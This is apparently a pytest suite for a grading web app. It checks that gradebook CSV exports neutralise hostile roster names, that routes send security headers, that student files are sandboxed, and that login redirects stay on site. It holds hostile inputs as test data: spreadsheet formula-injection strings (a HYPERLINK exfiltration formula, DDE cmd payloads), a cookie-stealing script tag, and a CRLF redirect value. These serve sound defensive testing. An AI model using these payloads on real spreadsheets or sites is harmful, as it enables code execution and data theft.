"""Issue 13 items 1, 5 and 7 through the real routes and CLI: hostile roster names come out of every
gradebook export as text, every route sends the security headers, student files are sandboxed plain
text, the session cookie is Secure over HTTPS, hostile `next=` and cohort names never answer 500 or
leave the site; and in Debian's Chromium no page of the app can be framed while its pages work under
their CSP."""
from __future__ import annotations

import datetime as dt
import io
from urllib.parse import quote

import pytest
from werkzeug.http import parse_options_header

from faults import exports as fx
from support.app import make_worker, page_csrf, replay_runner
from support.service import lab_files
from tests.service.helpers import upload_data
from tests.service.servers import serving, serving_pages

ISSUE_NAMES = ['=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def graded(app, browser):
    """alice has a graded submission; returns its id."""
    r = browser("alice").post(f"/assignments/{app.ids['assignment']}/submit", data=upload_data(lab_files()),
                              content_type="multipart/form-data")
    make_worker(app, replay_runner()).drain(timeout=30)
    return int(r.headers["Location"].rsplit("/", 1)[1])


def test_gradebook_neutralises_hostile_roster_on_web_and_cli(app, browser, graded, tmp_path):
    teacher = browser("teacher")
    roster, names = fx.hostile_roster()
    r = teacher.post(f"/instructor/cohorts/{app.ids['cohort']}/roster",
                     data={"roster": (io.BytesIO(roster), "r.csv")}, content_type="multipart/form-data")
    assert r.status_code == 200 and f"{len(names)} enrolled".encode() in r.data
    aid = app.ids["assignment"]
    web = teacher.get(f"/instructor/assignments/{aid}/gradebook.csv")
    assert web.status_code == 200 and web.mimetype == "text/csv"
    out = tmp_path / "grades.csv"
    cli = app.test_cli_runner().invoke(args=["export-grades", str(aid), "-o", str(out)])
    assert cli.exit_code == 0, cli.output
    for text in (web.get_data(as_text=True), out.read_text(encoding="utf-8")):
        check = fx.check_export(text, names)
        assert check["live"] == [] and check["unquoted_text"] == [] and check["altered"] == [], check
        assert check["graded"] == 1 and check["scores_not_numbers"] == []
        header, rows = fx.read_export(text)
        by_number = {r[0].removeprefix("'"): dict(zip(header, r)) for r in rows}
        for name in ISSUE_NAMES:   # each example is in the roster, and comes out as text
            number = next(n for n, v in names.items() if v == name)
            assert by_number[number]["name"] == "'" + name
        assert by_number["-1"]["student_number"] == "'-1" and by_number["-1"]["email"] == "'+1@x.invalid"
        assert by_number["S1"]["final_score"] == 100.0 and by_number["S1"]["submissions"] == 1.0
        assert '"S1","alice","Alice","alice@example.invalid",1,' in text   # scores and counts unquoted


def rule_urls(app, values: dict) -> list[tuple[str, str, str]]:
    """(endpoint, method, url) of every route of the app, with `values` for its arguments."""
    out = []
    for rule in app.url_map.iter_rules():
        url = rule.build({a: values[a] for a in rule.arguments}, append_unknown=False)[1]
        out += [(rule.endpoint, m, url) for m in sorted(rule.methods - {"HEAD", "OPTIONS"})]
    return out


def test_every_route_sends_the_security_headers(app, browser, graded):
    from grader.service.headers import SANDBOX_CSP

    values = {"submission_id": graded, "assignment_id": app.ids["assignment"], "cohort_id": app.ids["cohort"],
              "token_id": 1, "user_id": app.ids["alice"], "name": "kmsg.txt", "lab": "lab1", "filename": "style.css"}
    routes = sorted(set(rule_urls(app, values) + rule_urls(app, dict(values, name="sender.c"))))
    assert len({e for e, _, _ in routes}) >= 28
    seen = 0
    for who in (None, "alice", "teacher"):
        c = browser(who).c
        for endpoint, method, url in routes:
            if endpoint in ("auth.logout", "auth.password") and method == "POST":
                continue   # would end this client's session
            r = c.open(url, method=method)
            h = r.headers
            assert h["X-Frame-Options"] == "DENY" and h["X-Content-Type-Options"] == "nosniff", url
            assert "frame-ancestors 'none'" in h["Content-Security-Policy"] and h["Referrer-Policy"], url
            if endpoint in fx.STUDENT_FILES and r.status_code == 200:
                assert h["Content-Security-Policy"] == SANDBOX_CSP and r.mimetype == "text/plain", url
                seen += 1
            elif r.mimetype == "text/html":
                assert h["Content-Security-Policy"] == app.config["CONTENT_SECURITY_POLICY"], url
    assert seen == 4   # the artifact and the source, by alice and by the teacher
    api = app.test_client().get(f"/api/v1/submissions/{graded}/artifacts/kmsg.txt",
                                headers={"Authorization": "Bearer nope"})
    assert api.status_code == 401 and api.headers["X-Frame-Options"] == "DENY"


def test_student_files_are_sandboxed_plain_text_even_when_they_hold_html(app, browser, graded):
    files = dict(lab_files())
    files["sender.c"] += b"/* <html><script>alert(document.cookie)</script> */\n"
    alice = browser("alice")
    r = alice.post(f"/assignments/{app.ids['assignment']}/submit", data=upload_data(files),
                   content_type="multipart/form-data")
    sub = int(r.headers["Location"].rsplit("/", 1)[1])
    r = alice.get(f"/submissions/{sub}/files/sender.c")
    assert r.status_code == 200 and b"<script>" in r.data
    assert r.mimetype == "text/plain" and r.headers["X-Content-Type-Options"] == "nosniff"
    csp = r.headers["Content-Security-Policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp
    assert parse_options_header(r.headers["Content-Disposition"]) == ("inline", {"filename": "sender.c"})


def session_cookie_after_login(app, base_url: str, **headers) -> str:
    """The session Set-Cookie of a login over `base_url`. Flask-Login's only other cookie is the deletion
    of a remember-me cookie (empty, expired): this app never issues one."""
    c = app.test_client()
    page = c.get("/login", base_url=base_url)
    r = c.post("/login", base_url=base_url, headers=headers,
               data={"username": "alice", "password": "alice-pass-1", "csrf_token": page_csrf(page.get_data(True))})
    assert r.status_code == 302, r.get_data(True)[:300]
    cookies = r.headers.get_all("Set-Cookie")
    assert all("Max-Age=0" in c for c in cookies if c.startswith("remember_token="))
    return next(c for c in cookies if c.startswith("session="))


def test_session_cookie_is_secure_over_https_and_when_forced(app):
    # Flask-WTF wants a same-site Referer on HTTPS form posts (why Referrer-Policy is same-origin)
    assert "; Secure" in session_cookie_after_login(app, "https://grader.example",
                                                    Referer="https://grader.example/login")
    assert "Secure" not in session_cookie_after_login(app, "http://127.0.0.1")
    app.config["SESSION_COOKIE_SECURE"] = True
    assert "; Secure" in session_cookie_after_login(app, "http://127.0.0.1")


@pytest.mark.parametrize("target", fx.HOSTILE_NEXT)
def test_hostile_next_logs_in_and_stays_on_site(app, target):
    c = app.test_client()
    url = "/login?next=" + quote(target, safe="/:")
    page = c.get(url)
    assert page.status_code == 200
    r = c.post(url, data={"username": "alice", "password": "alice-pass-1", "csrf_token": page_csrf(page.get_data(True))})
    assert r.status_code == 302 and r.headers["Location"] == "/"


def test_issue_next_value_exactly():
    """The issue's request: `next=/%0D%0Ax` on the wire."""
    assert quote(fx.HOSTILE_NEXT[0], safe="/:") == "/%0D%0Ax"


@pytest.mark.parametrize("name", fx.WEB_COHORTS + fx.CLI_COHORTS)
def test_hostile_cohort_names_export_with_their_file_name(app, browser, tmp_path, name):
    from grader.service.headers import download_name
    from grader.service.models import Assignment, Cohort, db

    teacher = browser("teacher")
    with app.app_context():
        c = Cohort(name=name)
        db.session.add(c)
        db.session.flush()
        a = Assignment(cohort_id=c.id, lab="lab1", title="lab 1", deadline=dt.datetime(2031, 1, 1))
        db.session.add(a)
        db.session.commit()
        aid = a.id
    r = teacher.get(f"/instructor/assignments/{aid}/gradebook.csv")
    assert r.status_code == 200
    value, params = parse_options_header(r.headers["Content-Disposition"])
    assert value == "attachment" and params == {"filename": download_name(name, "lab1", "grades.csv")}
    assert "\n" not in r.headers["Content-Disposition"] and r.data.startswith(b'"student_number"')
    out = tmp_path / "g.csv"
    cli = app.test_cli_runner().invoke(args=["export-grades", f"{name}/lab1", "-o", str(out)])
    assert cli.exit_code == 0, cli.output
    assert out.read_text(encoding="utf-8").startswith('"student_number"')


# ------------------------------------------------------------------------------------------------- Chromium

@pytest.fixture
def served(app):
    """The app on a free 127.0.0.1 port (werkzeug's threaded server); yields its base URL."""
    from werkzeug.serving import make_server

    with serving(make_server("127.0.0.1", 0, app, threaded=True)) as url:
        yield url


@pytest.fixture
def framer(served):
    """Another origin whose page frames the app's login page and, as a control, a page of its own."""
    outer = (f'<!doctype html><title>framer</title><iframe id="app" src="{served}/login"></iframe>'
             '<iframe id="own" src="/own"></iframe>').encode()
    own = b'<!doctype html><title>own</title><p id="own">framed fine</p>'
    with serving_pages({"/own": own}, outer) as url:
        yield url + "/"


def test_chromium_refuses_to_frame_the_app(chromium_browser, served, framer):
    ctx = chromium_browser.new_context()
    try:
        page = ctx.new_page()
        page.goto(framer, wait_until="load", timeout=15_000)
        page.wait_for_timeout(500)
        own = next(f for f in page.frames if f.url.endswith("/own"))
        assert own.text_content("#own") == "framed fine"   # the harness can see a framed page
        app_frames = [f for f in page.frames if f.url.startswith(served)]
        assert all(f.query_selector("form") is None for f in app_frames), [f.url for f in page.frames]
        app_frame = page.frame_locator("#app")
        assert app_frame.locator("input[name=password]").count() == 0
    finally:
        ctx.close()


def test_chromium_pages_work_under_their_csp(chromium_browser, app, served, graded):
    ctx = chromium_browser.new_context()
    violations = []
    try:
        page = ctx.new_page()
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        page.goto(f"{served}/login", timeout=15_000)
        page.fill("input[name=username]", "teacher")
        page.fill("input[name=password]", "teacher-pass-1")
        page.click("button[type=submit]")
        page.wait_for_url(f"{served}/instructor/", timeout=15_000)
        # the stylesheet applies (style-src 'self'), the histogram image loads (img-src 'self')
        assert page.eval_on_selector("header", "e => getComputedStyle(e).backgroundColor") == "rgb(35, 57, 93)"
        page.goto(f"{served}/instructor/assignments/{app.ids['assignment']}", timeout=15_000)
        page.wait_for_function("document.getElementById('histogram').complete", timeout=15_000)
        assert page.eval_on_selector("#histogram", "e => e.naturalWidth") > 0
        page.goto(f"{served}/submissions/{graded}/files/sender.c", timeout=15_000)
        assert "copytrace" in page.content() or "#include" in page.content()
        assert violations == []
    finally:
        ctx.close()
